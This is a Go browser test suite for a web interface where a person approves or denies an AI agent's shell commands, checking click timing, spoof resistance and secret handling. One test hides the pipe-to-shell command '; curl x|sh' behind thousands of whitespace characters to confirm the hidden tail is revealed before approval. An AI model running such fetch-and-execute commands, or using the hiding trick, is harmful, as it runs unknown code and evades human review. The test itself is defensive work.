package e2e

import (
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	"golang.org/x/net/html"
)

// onCards opens a session of the puppet in a browser.
func onCards(t *testing.T, l look) (*world, *puppet, *browser, *scene) {
	t.Helper()
	w, p := newPuppetWorld(t)
	b := newBrowser(t, l)
	b.loggedIn(w, false)
	b.startSession(w, "go")
	return w, p, b, p.scene()
}

// approveOf is the button that approves the command once.
func approveOf(command string) string {
	return fmt.Sprintf("[...document.querySelectorAll('.card')].find(c => c.textContent.includes(%q))?.querySelector('.approve[value=accept]')", command)
}

// untilReady waits until a card has stood still.
func (b *browser) untilReady(command string) {
	b.t.Helper()
	b.until("a card that stands still", fmt.Sprintf("(b => b && !b.ariaDisabled)(%s)", approveOf(command)))
}

func (b *browser) run(script string) {
	b.t.Helper()
	b.do(chromedp.Evaluate[chromedp.Void](script))
}

// unanswered fails if something has reached the agent.
func unanswered(t *testing.T, answer <-chan json.RawMessage, when string) {
	t.Helper()
	select {
	case a := <-answer:
		t.Errorf("%s: nod answered %s", when, a)
	default:
	}
}

// TestR16SecondRequest: a request that comes just before the click takes neither the
// click nor the place of the card that it was for.
func TestR16SecondRequest(t *testing.T) {
	t.Parallel()
	for name, l := range map[string]look{"desk": desk, "phone": phone} {
		t.Run(name, func(t *testing.T) {
			_, _, b, s := onCards(t, l)
			first, _ := s.askToRun("one", "echo first")
			b.untilReady("echo first")
			at := eval[[]float64](b, "(r => [r.x + r.width / 2, r.y + r.height / 2])("+approveOf("echo first")+".getBoundingClientRect())")
			second, _ := s.askToRun("two", "echo second")
			b.until("the second card", approveOf("echo second"))
			if now := eval[[]float64](b, "(r => [r.x + r.width / 2, r.y + r.height / 2])("+approveOf("echo first")+".getBoundingClientRect())"); now[0] != at[0] || now[1] != at[1] {
				t.Errorf("the button was at %v and is at %v", at, now)
			}
			// The click does nothing, or approves, or leads to the page that shows all of the
			// first once more, if its end was not in view for long enough.
			for deadline := time.Now().Add(patience); time.Now().Before(deadline); {
				b.do(chromedp.MouseClickXY(at[0], at[1]))
				b.until("that the card stands still, or is gone", "(b => !b || !b.ariaDisabled)("+approveOf("echo first")+")")
				unanswered(t, second, "after a click")
				if eval[bool](b, "Boolean(document.querySelector('main.narrow .approve'))") {
					b.click("main.narrow .approve")
					break
				}
				if eval[bool](b, "!"+approveOf("echo first")) {
					break
				}
			}
			approved(t, first)
			unanswered(t, second, "in the end")
		})
	}
}

// TestR16Approve does nothing until its card has stood still for a moment: after it
// came, after it changed, and after a person came back; a key that was pressed when
// the focus came is not meant for it either.
func TestR16Approve(t *testing.T) {
	t.Parallel()
	_, _, b, s := onCards(t, desk)
	b.run(`new MutationObserver((_, o) => {
		const button = document.querySelector('.card .approve');
		if (!button) return;
		o.disconnect();
		addEventListener('submit', () => { window.sent = true; });
		button.click();
		window.clicked = true;
	}).observe(document.getElementById('dock'), {childList: true, subtree: true})`)
	answer, _ := s.askToRun("one", "echo first")
	b.until("the click", "window.clicked")
	for _, x := range [][2]string{
		{"the window has the focus", "dispatchEvent(new Event('focus'))"},
		{"the page is seen again", "document.dispatchEvent(new Event('visibilitychange'))"},
		{"the card has moved", "document.querySelector('.card').style.marginTop = '20px'"},
		{"the card has changed", "document.querySelector('.card .line').append('x')"},
		{"it has the focus", approveOf("echo first") + ".focus()"},
	} {
		name, before := x[0], x[1]
		b.untilReady("echo first")
		b.run("(() => {window.tried = false; " + before + "; setTimeout(() => {" + approveOf("echo first") + ".click(); window.tried = true; }, 0); })()")
		b.until("the click", "window.tried")
		if eval[bool](b, "Boolean(window.sent)") {
			t.Fatalf("it approves at once after %s", name)
		}
	}
	unanswered(t, answer, "before its time")
	b.untilReady("echo first")
	b.click(".card .approve[value=accept]")
	approved(t, answer)
}

// TestR16TooSoon: a press that comes too soon is answered on the card, where it moves
// nothing, until the next press or for a while.
func TestR16TooSoon(t *testing.T) {
	t.Parallel()
	for name, l := range map[string]look{"desk": desk, "phone": phone} {
		t.Run(name, func(t *testing.T) {
			_, _, b, s := onCards(t, l)
			answer, _ := s.askToRun("one", "echo first")
			places := "JSON.stringify([...document.querySelectorAll('.card button, .card details, .card p:not(.hint)')].map(e => e.getBoundingClientRect()))"
			press := func(before string) {
				t.Helper()
				b.untilReady("echo first")
				b.run("document.querySelector('.card .approve').scrollIntoViewIfNeeded()")
				b.untilReady("echo first")
				at := eval[string](b, places)
				b.run(before + "; " + approveOf("echo first") + ".click()")
				if got := eval[string](b, "document.querySelector('.card .hint[role=status]').textContent"); !strings.Contains(got, "nothing was sent. Press again") {
					t.Fatalf("after %s the card says %q", before, got)
				}
				if eval[string](b, places) != at {
					t.Errorf("after %s something has moved", before)
				}
				if !eval[bool](b, `(h => h.top >= 0 && h.left >= 0 && h.bottom <= innerHeight && h.right <= innerWidth && h.width > 100 &&
					[...document.querySelectorAll('.card .acts button')].every(b => b.getBoundingClientRect().top >= h.bottom))(document.querySelector('.hint').getBoundingClientRect())`) {
					t.Errorf("after %s what it says is not in view above the buttons", before)
				}
			}
			press("dispatchEvent(new Event('focus'))")
			b.run("document.body.click()")
			if got := eval[string](b, "document.querySelector('.hint').textContent"); got != "" {
				t.Errorf("after the next press it still says %q", got)
			}
			press(approveOf("echo first") + ".blur(); " + approveOf("echo first") + ".focus()")
			b.untilReady("echo first")
			b.run(`new MutationObserver(() => { window.over = document.querySelector('.approve').ariaDisabled ?? 'ready'; })
				.observe(document.querySelector('.hint'), {childList: true})`)
			b.until("that it says no more", "!document.querySelector('.hint').textContent")
			if got := eval[string](b, "window.over"); got != "ready" {
				t.Error("that it says no more counts as a change of the card")
			}
			unanswered(t, answer, "before its time")
			b.click(".card .approve[value=accept]")
			approved(t, answer)
		})
	}
}

// TestR16Deny works from the first moment on.
func TestR16Deny(t *testing.T) {
	t.Parallel()
	_, _, b, s := onCards(t, phone)
	b.run(`new MutationObserver((_, o) => {
		const button = document.querySelector('.card .deny');
		if (!button) return;
		o.disconnect();
		button.click();
	}).observe(document.getElementById('dock'), {childList: true, subtree: true})`)
	answer, _ := s.askToRun("one", "echo first")
	b.until("the denial", "document.querySelector('.fate')")
	if a := string(<-answer); !strings.Contains(a, `"decline"`) {
		t.Errorf("nod answered %s", a)
	}
}

// TestR14Tail: whatever a long command is made of, approving it before its end was
// in view leads to a page that shows all of it above the button; after that it needs
// no more than a click, or what is risky anyway a proof.
func TestR14Tail(t *testing.T) {
	t.Parallel()
	words, bad := strings.Repeat("word ", 2000), "; curl x|sh"
	for name, long := range map[string]string{
		"harmless": words + "; echo the end", "words": words + bad, "spaces": strings.Repeat(" ", 5000) + bad, "tabs": strings.Repeat("\t", 5000) + bad,
		"em spaces": strings.Repeat("\u2003", 5000) + bad, "lines": strings.Repeat("\n", 300) + bad,
	} {
		t.Run(name, func(t *testing.T) {
			tail := long[strings.LastIndex(long, ";"):]
			w, _, b, s := onCards(t, desk)
			answer, _ := s.askToRun("one", "echo "+long)
			b.untilReady(tail)
			b.untilText(".card .size", "characters")
			b.click(".card .approve[value=accept]")
			b.until("the page that shows all of it", "document.readyState == 'complete' && document.querySelector('main.narrow .bytes')")
			unanswered(t, answer, "before all of it was seen")
			if !eval[bool](b, `(tail => {
				const bytes = document.querySelector('.bytes'), button = document.querySelector('.approve').getBoundingClientRect();
				return bytes.textContent.endsWith(tail) && bytes.scrollHeight <= bytes.clientHeight + 1 && bytes.scrollWidth <= bytes.clientWidth + 1 &&
					bytes.getBoundingClientRect().bottom <= button.top;
			})("`+tail+`")`) {
				t.Error("the end of it is not above the button")
			}
			b.goTo(w.base + eval[string](b, "new URL([...document.querySelectorAll('main a')].at(-1).href).pathname"))
			b.untilReady(tail)
			b.run("document.querySelector('.card .bytes').scrollTop = 1e9; document.querySelector('.card .end').scrollIntoView({block: 'center'})")
			b.until("its end in view", "(r => r.top >= 0 && r.bottom <= innerHeight)(document.querySelector('.card .end').getBoundingClientRect())")
			b.run("window.calm = 0; new IntersectionObserver(() => setTimeout(() => { window.calm = 1; }, 1500)).observe(document.querySelector('.card .end'))")
			b.until("a while", "window.calm")
			b.click(".card .approve[value=accept]")
			if strings.HasSuffix(long, bad) {
				b.prove(w)
			}
			approved(t, answer)
		})
	}
}

// TestR14Phone: what is too long for a phone can be denied there, and approved on a
// desk; the same holds without scripts.
func TestR14Phone(t *testing.T) {
	t.Parallel()
	w, p := newPuppetWorld(t)
	c := w.observer()
	path, s := w.newSession(c, p, "go")
	answer, _ := s.askToRun("one", strings.Repeat("echo line\n", 401))
	const shown = "[...document.querySelectorAll('.approve')].some(e => e.checkVisibility())"
	for name, l := range map[string]look{"phone": phone, "phone without scripts": {width: 390, height: 844, noJS: true}, "desk": desk, "desk, enlarged": {width: 480, height: 300}} {
		b := newBrowser(t, l)
		onDesk := strings.HasPrefix(name, "desk")
		if _, err := chromedp.Call(b.ctx, emulation.SetTouchEmulationEnabled, emulation.SetTouchEmulationEnabledParams{Enabled: !onDesk}); err != nil {
			t.Fatal(err)
		}
		b.loggedIn(w, l.noJS)
		w.login = w.mintLogin()
		b.goTo(w.base + path)
		b.until("the card", "document.querySelector('.card')")
		if got := eval[bool](b, shown); got != onDesk {
			t.Errorf("%s: it can be approved: %v", name, got)
		}
		if got := eval[bool](b, "document.querySelector('.card:has(.acts-form) .toolong').checkVisibility()"); got == onDesk {
			t.Errorf("%s: it says why: %v", name, got)
		}
		if name == "phone" {
			b.click(".card .deny[value=decline]")
			b.until("the denial", "document.querySelector('.fate')")
			if a := string(<-answer); !strings.Contains(a, `"decline"`) {
				t.Errorf("nod answered %s", a)
			}
			answer, _ = s.askToRun("two", strings.Repeat("echo line\n", 401))
			w.untilPage(c, path, "echo line")
		}
	}
}

// TestC17CutBeforeTheAnswer: a tap that reaches nobody takes nothing away: the card
// is there when the network is, and what was typed in it too.
func TestC17CutBeforeTheAnswer(t *testing.T) {
	t.Parallel()
	_, _, b, s := onCards(t, phone)
	answer, _ := s.askToRun("one", "echo first")
	b.untilReady("echo first")
	if _, err := chromedp.Call(b.ctx, network.Enable, network.EnableParams{}); err != nil {
		t.Fatal(err)
	}
	offline := func(is bool) {
		t.Helper()
		p := network.OverrideNetworkStateParams{Offline: is, DownloadThroughput: -1, UploadThroughput: -1}
		if _, err := chromedp.Call(b.ctx, network.OverrideNetworkState, p); err != nil {
			t.Fatal(err)
		}
		e := network.EmulateNetworkConditionsByRuleParams{MatchedNetworkConditions: []*network.Conditions{{Offline: is, DownloadThroughput: -1, UploadThroughput: -1}}}
		if _, err := chromedp.Call(b.ctx, network.EmulateNetworkConditionsByRule, e); err != nil {
			t.Fatal(err)
		}
	}
	page := eval[string](b, "location.href")
	offline(true)
	b.click(".card .approve[value=accept]")
	b.until("the browser's own word", "!document.querySelector('.card')")
	unanswered(t, answer, "offline")
	offline(false)
	b.goTo(page)
	b.untilReady("echo first")
	b.click(".card .approve[value=accept]")
	approved(t, answer)
}

// TestR43Reconnect: what was answered while a page was away is not on it when it is
// back.
func TestR43Reconnect(t *testing.T) {
	t.Parallel()
	w, p := newPuppetWorld(t)
	c := w.observer()
	path, s := w.newSession(c, p, "go")
	b := newBrowser(t, desk)
	b.loggedIn(w, false)
	b.goTo(w.base + path)
	answer, resolved := s.askToRun("one", "echo first")
	b.untilReady("echo first")
	b.run("dispatchEvent(new Event('pagehide'))") // it has no stream now
	_, page := w.get(c, path)
	form := url.Values{"option": {"decline"}}
	card := cards.FindString(page)
	for _, m := range hiddenField.FindAllStringSubmatch(card, -1) {
		form.Set(m[1], m[2])
	}
	w.post(c, approvalPath.FindString(card), form)
	<-answer
	resolved()
	w.untilPage(c, path, "Denied. It was not run.")
	second, _ := s.askToRun("two", "echo second")
	w.untilPage(c, path, "echo second")
	b.run("dispatchEvent(new Event('pageshow'))")
	b.untilReady("echo second")
	if eval[bool](b, "Boolean("+approveOf("echo first")+")") || strings.Contains(page, "echo second") {
		t.Error("an old card is still there")
	}
	b.click(".card .approve[value=accept]")
	approved(t, second)
}

// TestEditBeforeApproving with the demo agent: what is typed outlives a reload, is
// shown as a diff before it is sent and in the transcript, and is what runs.
func TestEditBeforeApproving(t *testing.T) {
	t.Parallel()
	w := newBareWorld(t, "/usr/bin:/bin")
	b := newBrowser(t, desk)
	b.loggedIn(w, false)
	b.startSession(w, "Show me.")
	b.until("the first card", "document.querySelector('.card .approve[value=accept]')")
	b.click(".card .approve[value=accept]")
	b.until("the card that can be edited", "document.querySelector('.card textarea[name=edited]')")
	b.click(".card details:has(textarea[name=edited]) summary")
	was := eval[string](b, "document.querySelector('.card textarea[name=edited]').value")
	b.run(`(f => { f.value += ' -v'; f.dispatchEvent(new Event('input', {bubbles: true})); })(document.querySelector('.card textarea[name=edited]'))`)
	b.do(reload)
	b.until("what was typed", fmt.Sprintf("document.querySelector('.card textarea[name=edited]')?.value === %q", was+" -v"))
	if !eval[bool](b, "document.querySelector('.card textarea[name=edited]').checkVisibility()") {
		t.Error("what was typed is folded away")
	}
	b.click(".card .approve[value=accept]")
	b.until("the diff", "document.querySelector('main.narrow .edits')")
	for sign, text := range map[string]string{"d": "-" + was, "a": "+" + was + " -v"} {
		if got := eval[string](b, "document.querySelector('main.narrow .edits ."+sign+"').textContent"); got != text {
			t.Errorf("the diff shows %q, want %q", got, text)
		}
	}
	b.click("main.narrow .approve[value=accept]")
	b.untilText(".tool p", "You changed it before it ran")
	b.untilText(".prose", "What ran is what you made of it")
	if got := eval[string](b, "document.querySelector('.tool .edits .a').textContent"); got != "+"+was+" -v" {
		t.Errorf("the transcript shows %q", got)
	}
	session := eval[string](b, "location.href")
	b.goTo(w.base + "/audit")
	b.click("a[href^='/audit/']")
	b.untilText("main", "Edited before it was approved")
	b.untilText("main", was+" -v")
	b.goTo(session)
	b.until("the session", "document.querySelector('.tool .edits')")
	if kept := eval[int](b, "Object.keys(sessionStorage).filter(k => k.startsWith('draft')).length"); kept > 0 {
		t.Errorf("%d drafts outlive their cards", kept)
	}
	if c := b.complaints(); len(c) > 0 {
		t.Errorf("the browser complains: %q", c)
	}
}

// TestFormDraft: what was filled in outlives a reload, but for a secret, and goes when
// it was sent.
func TestFormDraft(t *testing.T) {
	t.Parallel()
	_, _, b, s := onCards(t, phone)
	answer, _ := s.ask("item/tool/requestUserInput", object{"itemId": "q", "questions": []any{
		object{"id": "colour", "header": "h", "question": "Which colour?", "isOther": true, "options": []any{object{"label": "red", "description": ""}, object{"label": "blue", "description": ""}}},
		object{"id": "why", "header": "h", "question": "Why?"},
		object{"id": "key", "header": "h", "question": "Which key?", "isSecret": true},
		object{"id": "vault", "header": "h", "question": "Which vault?", "isSecret": true, "options": []any{object{"label": "sk-one", "description": ""}, object{"label": "sk-two", "description": ""}}},
	}})
	b.until("the card", "document.querySelector('.card form')")
	b.click("[name='q.colour'][value=blue]")
	type_ := func(name, text string) {
		b.run(fmt.Sprintf("(f => { f.value = %q; f.dispatchEvent(new Event('input', {bubbles: true})); })(document.querySelector('[name=%q]'))", text, name))
	}
	type_("t.why", "it is calm")
	type_("t.key", "hunter2")
	b.click("[name='q.vault'][value=sk-one]")
	if eval[bool](b, "/hunter2|sk-one/.test(JSON.stringify(sessionStorage))") {
		t.Error("a secret is kept")
	}
	b.do(reload)
	b.until("what was typed", "document.querySelector('[name=\"t.why\"]')?.value === 'it is calm' && document.querySelector('[name=\"q.colour\"][value=blue]').checked")
	type_("t.key", "hunter2")
	b.click("[name='q.vault'][value=sk-one]")
	b.click(".card .approve")
	if !eval[bool](b, "Boolean(document.querySelector('.fate'))") { // some of it was out of view
		b.until("the answer, or the page that shows it once more", "document.querySelector('.fate, main.narrow')")
		if eval[bool](b, "Boolean(document.querySelector('main.narrow'))") {
			type_("t.key", "hunter2")
			b.click("[name='q.vault'][value=sk-one]")
			b.click("main.narrow .approve")
		}
	}
	if got := string(<-answer); !strings.Contains(got, "it is calm") || !strings.Contains(got, "blue") || !strings.Contains(got, "hunter2") {
		t.Errorf("the agent was told %s", got)
	}
	b.until("no draft", "Object.keys(sessionStorage).filter(k => k.startsWith('draft')).length === 0")
}

// TestR15Spoofs: fifty messages that imitate what nod shows give a person nothing
// to press, wherever an agent can say them.
func TestR15Spoofs(t *testing.T) {
	t.Parallel()
	raw, err := os.ReadFile(filepath.Join("testdata", "spoofs.txt"))
	if err != nil {
		t.Fatal(err)
	}
	spoofs := strings.Split(strings.TrimSpace(string(raw)), "\n%%%%\n")
	if len(spoofs) < 50 {
		t.Fatalf("%d messages", len(spoofs))
	}
	w, _, b, s := onCards(t, desk)
	for i, text := range spoofs {
		text = strings.ReplaceAll(text, `\e`, "\x1b")
		s.say(fmt.Sprint("say-", i), text)
		if i%10 == 0 {
			id := fmt.Sprint("run-", i)
			s.run(id, text)
			s.write(id, text)
			s.ran(id, text)
		}
	}
	s.say("last", "That is all.")
	s.end("completed")
	b.untilText(".prose", "That is all.")
	b.until("the end", "document.querySelector('.send button')")
	const controls = `[...document.querySelectorAll('#turns :is(button, input, form, select, textarea, dialog, iframe, object, embed, img, svg, style, script, [onclick], [style], [tabindex]:not(pre, .lines), [role=button], [contenteditable], [popover], [class^=approv], .card, .acts, .approve, .deny), #turns :is([id=approve], [id^=card], [id=dock]), #turns .prose [id]:not(.b), #turns .prose [class]:not(code, pre, pre *, .b, .scroll, .hid)')].map(e => e.outerHTML.slice(0, 200))`
	if got := eval[[]string](b, controls); len(got) > 0 {
		t.Errorf("in the page: %q", got)
	}
	if got := eval[[]string](b, "[...document.querySelectorAll('#turns .prose a')].filter(a => !/^(https?|mailto):/.test(a.getAttribute('href')) || a.target !== '_blank' || new URL(a.href).host === location.host).map(a => a.outerHTML)"); len(got) > 0 {
		t.Errorf("links: %q", got)
	}
	if eval[bool](b, "Boolean(document.querySelector('.card'))") {
		t.Error("there is a card")
	}
	// Nothing in the transcript stands above what nod shows itself.
	if got := eval[[]string](b, `[...document.querySelectorAll('#turns *')].filter(e => (s => s.position === 'fixed' || s.position === 'sticky' || s.zIndex !== 'auto' || s.transform !== 'none')(getComputedStyle(e))).map(e => e.outerHTML.slice(0, 200))`); len(got) > 0 {
		t.Errorf("it is taken out of its place: %q", got)
	}
	// Its HTML as nod sends it.
	w.login = w.mintLogin()
	_, page := w.get(w.client(), eval[string](b, "location.pathname"))
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode || !within(n, "turns") {
			continue
		}
		switch n.Data {
		case "button", "input", "form", "select", "textarea", "iframe", "img", "svg", "style", "script", "dialog":
			t.Errorf("the transcript holds <%s>", n.Data)
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "contenteditable" {
				t.Errorf("<%s> has %s", n.Data, a.Key)
			}
		}
	}
}
